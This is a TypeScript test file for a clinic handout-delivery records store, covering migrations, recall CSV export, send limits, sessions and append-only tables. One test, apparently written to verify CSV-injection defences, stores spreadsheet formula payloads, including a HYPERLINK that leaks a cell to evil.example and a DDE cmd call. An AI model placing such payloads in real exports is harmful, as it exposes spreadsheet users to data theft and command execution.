import { createHash } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openRecords, RecordsError, type EditionRef, type NewDelivery, type Records, type RecordsOptions } from '../src/records/index.ts';
import { openDatabase } from '../src/records/database.ts';
import { MIGRATIONS, SCHEMA_VERSION } from '../src/records/migrations.ts';
import { startPostgres } from './helpers/postgres.ts';

/** Where each test gets a fresh, empty records database. */
interface Backend {
  name: string;
  start(): Promise<{ fresh(): Promise<RecordsOptions>; stop(): Promise<void> }>;
}

const dataDirs: string[] = [];
const newDataDir = async () => {
  const dir = await mkdtemp(path.join(tmpdir(), 'handout-records-'));
  dataDirs.push(dir);
  return dir;
};
afterAll(() => Promise.all(dataDirs.map((dir) => rm(dir, { recursive: true, force: true }))));

const backends: Backend[] = [
  { name: 'PGlite', start: async () => ({ fresh: async () => ({ dataDir: await newDataDir() }), stop: async () => {} }) },
  {
    name: 'PostgreSQL',
    start: async () => {
      const server = await startPostgres();
      return { fresh: async () => ({ databaseUrl: await server.database(), dataDir: await newDataDir() }), stop: () => server.stop() };
    },
  },
];

const edition = (version: string, overrides: Partial<EditionRef> = {}): EditionRef => ({
  topic: 'recurrent-hemifacial-spasm',
  version,
  language: 'es',
  level: 'plain',
  format: 'handout',
  clinic: 'riverside',
  paper: 'letter',
  contentHash: `hash-${version}`,
  ...overrides,
});

const email = (recipient: string, version: string, overrides: Partial<NewDelivery> = {}): NewDelivery => ({
  staff: 'nurse.lee',
  edition: edition(version),
  channel: 'email',
  recipient,
  patientRef: null,
  messageId: `<${recipient}.${version}@handout.test>`,
  patientConfirmed: true,
  ...overrides,
});

const print = (version: string, patientRef: string | null, overrides: Partial<NewDelivery> = {}): NewDelivery => ({
  staff: 'front.desk',
  edition: edition(version),
  channel: 'print',
  recipient: null,
  patientRef,
  messageId: null,
  patientConfirmed: true,
  ...overrides,
});

describe.each(backends)('records on $name', (backend) => {
  let fresh: () => Promise<RecordsOptions>;
  let stop: () => Promise<void>;
  beforeAll(async () => {
    ({ fresh, stop } = await backend.start());
  });
  afterAll(async () => {
    await stop?.();
  });

  /** Runs raw SQL on the records database, as another program could (the records must be closed first when embedded). */
  async function rawQuery<Row>(options: RecordsOptions, text: string, params: unknown[] = []): Promise<Row[]> {
    const database = await openDatabase(options);
    try {
      return await database.query<Row>(text, params);
    } finally {
      await database.close();
    }
  }

  it('applies its migrations once, and reopening applies none again; a record written survives close and reopen', async () => {
    const options = await fresh();
    const first = await openRecords(options);
    const written = await first.recordDelivery(print('1.0', 'MRN-1'));
    await first.close();
    const again = await openRecords(options);
    expect(await again.deliveriesFor({ patientRef: 'MRN-1' })).toEqual([written]);
    await again.close();
    const applied = await rawQuery<{ version: number }>(options, 'SELECT version FROM schema_migrations ORDER BY version');
    expect(applied.map((row) => row.version)).toEqual(MIGRATIONS.map((migration) => migration.version));
  });

  it('refuses a database whose schema is newer than the code, changing nothing', async () => {
    const options = await fresh();
    await (await openRecords(options)).close();
    await rawQuery(options, "INSERT INTO schema_migrations (version, description) VALUES ($1, 'from the future')", [SCHEMA_VERSION + 1]);
    const opening = openRecords(options);
    await expect(opening).rejects.toThrow(RecordsError);
    await expect(opening).rejects.toThrow(`schema version ${SCHEMA_VERSION + 1}, newer than this version of handout knows (${SCHEMA_VERSION})`);
    expect(await rawQuery(options, 'SELECT version FROM schema_migrations')).toHaveLength(MIGRATIONS.length + 1);
  });

  describe('with records', () => {
    let records: Records;
    let options: RecordsOptions;
    beforeAll(async () => {
      options = await fresh();
      records = await openRecords(options);
    });
    afterAll(async () => {
      await records?.close();
    });

    it('lists a recipient of version 1.0 for recall after the topic moves to 1.1, and not one of 1.1', async () => {
      await records.recordDelivery(email('old.version@example.org', '1.0', { at: new Date('2026-11-01T10:00:00Z') }));
      await records.recordDelivery(print('1.0', 'MRN-OLD', { at: new Date('2026-11-02T10:00:00Z') }));
      await records.recordDelivery(email('new.version@example.org', '1.1', { at: new Date('2026-11-20T10:00:00Z') }));
      await records.recordDelivery(email('other.topic@example.org', '1.0', { edition: edition('1.0', { topic: 'another-topic' }) }));

      const recall = await records.recall('recurrent-hemifacial-spasm', '1.1');
      expect(recall.map((d) => [d.channel, d.recipient ?? d.patientRef, d.edition.version])).toEqual([
        ['print', 'MRN-OLD', '1.0'],
        ['email', 'old.version@example.org', '1.0'],
      ]);
      const csv = await records.recallCsv('recurrent-hemifacial-spasm', '1.1');
      expect(csv).toContain('old.version@example.org');
      expect(csv).not.toContain('new.version@example.org');
      expect(csv).not.toContain('other.topic@example.org');
      expect(csv.split('\r\n')[0]).toBe('time (UTC),staff,channel,recipient,patient reference,patient confirmed,topic,version,language,level,format,clinic,paper,content hash,message id');
      expect(csv).toContain('\r\n2026-11-01T10:00:00.000Z,nurse.lee,email,old.version@example.org,,yes,recurrent-hemifacial-spasm,1.0,es,plain,handout,riverside,letter,hash-1.0,<old.version@example.org.1.0@handout.test>\r\n');
    });

    it('answers what a patient was given, by address (any case) or reference, newest first', async () => {
      const older = await records.recordDelivery(email('Maria.Lopez@Example.org', '1.0', { at: new Date('2026-10-01T09:00:00Z'), patientRef: 'MRN-77' }));
      const newer = await records.recordDelivery(print('1.1', 'MRN-77', { at: new Date('2026-10-05T09:00:00Z') }));
      const elsewhere = await records.recordDelivery(print('1.1', 'MRN-78'));
      expect(await records.deliveriesFor({ recipient: 'maria.lopez@example.org' })).toEqual([older]);
      expect(await records.deliveriesFor({ patientRef: 'MRN-77' })).toEqual([newer, older]);
      expect(await records.deliveriesFor({ recipient: 'maria.lopez@example.org', patientRef: 'MRN-78' })).toEqual([elsewhere, older]);
      expect(older).toMatchObject({ staff: 'nurse.lee', channel: 'email', patientConfirmed: true, messageId: '<Maria.Lopez@Example.org.1.0@handout.test>', edition: edition('1.0') });
      expect(older.at.toISOString()).toBe('2026-10-01T09:00:00.000Z');
      await expect(records.deliveriesFor({})).rejects.toThrow(RecordsError);
    });

    it('writes the recall CSV by RFC 4180 and defuses cells a spreadsheet would run as formulas', async () => {
      const topic = 'csv-topic';
      const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+2', '-3', '@SUM(A1)', 'Lopez, "Maria"\r\nline two', 'plain ref'];
      for (const [index, patientRef] of hostile.entries()) {
        await records.recordDelivery(print('1.0', patientRef, { edition: edition('1.0', { topic }), at: new Date(Date.UTC(2026, 0, 10 - index)), staff: index === 0 ? '=cmd|"/c calc"!A0' : 'front.desk' }));
      }
      const csv = await records.recallCsv(topic, '2.0');
      const lines = csv.split('\r\n');
      expect(lines[1]).toBe(`2026-01-10T00:00:00.000Z,"'=cmd|""/c calc""!A0",print,,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",yes,csv-topic,1.0,es,plain,handout,riverside,letter,hash-1.0,`);
      expect(lines[2]).toContain(",'+1+2,");
      expect(lines[3]).toContain(",'-3,");
      expect(lines[4]).toContain(",'@SUM(A1),");
      // The line break stays inside its quoted cell.
      expect(csv).toContain(',"Lopez, ""Maria""\r\nline two",');
      expect(csv).toContain(',plain ref,');
      expect(csv.endsWith('\r\n')).toBe(true);
    });

    it('counts emails per staff member and per recipient since a time, for send limits', async () => {
      const since = new Date('2026-09-01T00:00:00Z');
      for (const at of ['2026-08-31T23:59:59Z', '2026-09-01T00:00:00Z', '2026-09-02T00:00:00Z']) {
        await records.recordDelivery(email('count.me@example.org', '1.0', { staff: 'counter', at: new Date(at), edition: edition('1.0', { topic: 'count-topic' }) }));
      }
      await records.recordDelivery(print('1.0', null, { staff: 'counter', at: new Date('2026-09-03T00:00:00Z') }));
      expect(await records.countEmails({ staff: 'counter', since })).toBe(2);
      expect(await records.countEmails({ recipient: 'COUNT.ME@example.org', since })).toBe(2);
      expect(await records.countEmails({ staff: 'nobody', recipient: 'count.me@example.org', since })).toBe(0);
    });

    it('refuses an email without its recipient or the patient\'s confirmation, and a recipient on a print, recording nothing', async () => {
      await expect(records.recordDelivery(email('unconfirmed@example.org', '1.0', { patientConfirmed: false }))).rejects.toThrow('confirmation');
      await expect(records.recordDelivery(email('', '1.0'))).rejects.toThrow('recipient');
      await expect(records.recordDelivery(print('1.0', 'MRN-9', { recipient: 'print@example.org' }))).rejects.toThrow('Only emails have a recipient');
      expect(await records.deliveriesFor({ recipient: 'unconfirmed@example.org' })).toEqual([]);
      expect(await records.deliveriesFor({ patientRef: 'MRN-9' })).toEqual([]);
    });

    it('lands all of 50 concurrent writes', async () => {
      const written = await Promise.all(Array.from({ length: 50 }, (_, index) => records.recordDelivery(print('1.0', 'MRN-CONCURRENT', { staff: `staff-${index}` }))));
      const stored = await records.deliveriesFor({ patientRef: 'MRN-CONCURRENT' });
      expect(stored).toHaveLength(50);
      expect(new Set(stored.map((d) => d.id)).size).toBe(50);
      expect(new Set(stored.map((d) => d.staff))).toEqual(new Set(written.map((d) => d.staff)));
    });

    it('keeps staff accounts', async () => {
      await records.addStaff({ name: 'dr.ng', passwordHash: '$argon2id$v=19$m=19456,t=2,p=1$c2FsdA$aGFzaA', displayName: 'Dr. Ng' });
      expect(await records.staffNamed('dr.ng')).toEqual({ name: 'dr.ng', passwordHash: '$argon2id$v=19$m=19456,t=2,p=1$c2FsdA$aGFzaA', displayName: 'Dr. Ng' });
      await expect(records.addStaff({ name: 'dr.ng', passwordHash: 'other' })).rejects.toThrow('already exists');
      expect(await records.staffNamed('dr.ng')).toMatchObject({ passwordHash: '$argon2id$v=19$m=19456,t=2,p=1$c2FsdA$aGFzaA' });
      expect(await records.staffNamed('nobody')).toBeNull();
    });

    it('keeps sessions by a hash of a random id until they expire or end', async () => {
      const id = await records.createSession('nurse.lee', 300);
      expect(id).toMatch(/^[A-Za-z0-9_-]{43}$/);
      const lasting = await records.createSession('dr.ng', 60_000);
      expect(id).not.toBe(lasting);
      expect(await records.sessionStaff(id)).toBe('nurse.lee');
      expect(await records.sessionStaff(`${id.slice(0, -1)}${id.endsWith('A') ? 'B' : 'A'}`)).toBeNull();
      await new Promise((resolve) => setTimeout(resolve, 500));
      expect(await records.sessionStaff(id)).toBeNull();
      expect(await records.sessionStaff(lasting)).toBe('dr.ng');
      await records.endSession(lasting);
      expect(await records.sessionStaff(lasting)).toBeNull();
    });

    it('stores only hashes of session ids, and refuses to change or delete a delivery even through SQL', async () => {
      const id = await records.createSession('nurse.lee', 60_000);
      await records.recordDelivery(print('1.0', 'MRN-KEEP'));
      await records.close();
      const hashes = await rawQuery<{ id_hash: string }>(options, 'SELECT id_hash FROM sessions');
      expect(hashes.map((row) => row.id_hash)).toContain(createHash('sha256').update(id).digest('hex'));
      expect(JSON.stringify(hashes)).not.toContain(id);
      await expect(rawQuery(options, "UPDATE deliveries SET recipient = NULL WHERE patient_ref = 'MRN-KEEP'")).rejects.toThrow('append-only');
      await expect(rawQuery(options, "DELETE FROM deliveries WHERE patient_ref = 'MRN-KEEP'")).rejects.toThrow('append-only');
      await expect(rawQuery(options, 'TRUNCATE deliveries')).rejects.toThrow('append-only');
      records = await openRecords(options);
      expect(await records.deliveriesFor({ patientRef: 'MRN-KEEP' })).toHaveLength(1);
      expect(await records.sessionStaff(id)).toBe('nurse.lee');
    });
  });
});

describe('records on PGlite', () => {
  it('makes its database folder under the data folder on first open', async () => {
    const dataDir = path.join(await newDataDir(), 'var');
    const records = await openRecords({ dataDir });
    await records.close();
    const { readdir } = await import('node:fs/promises');
    expect(await readdir(path.join(dataDir, 'records'))).toContain('PG_VERSION');
  });

  it('is opened by one process at a time: a second opening is refused until the first closes', async () => {
    const dataDir = await newDataDir();
    const first = await openRecords({ dataDir });
    await expect(openRecords({ dataDir })).rejects.toThrow(new RecordsError(`The embedded records database in ${path.join(dataDir, 'records')} is open in another handout process: stop that one first, or set DATABASE_URL to share a PostgreSQL server`));
    await first.recordDelivery(print('1.0', 'MRN-ONE'));
    await first.close();
    const second = await openRecords({ dataDir });
    expect(await second.deliveriesFor({ patientRef: 'MRN-ONE' })).toHaveLength(1);
    await second.close();
  });
});
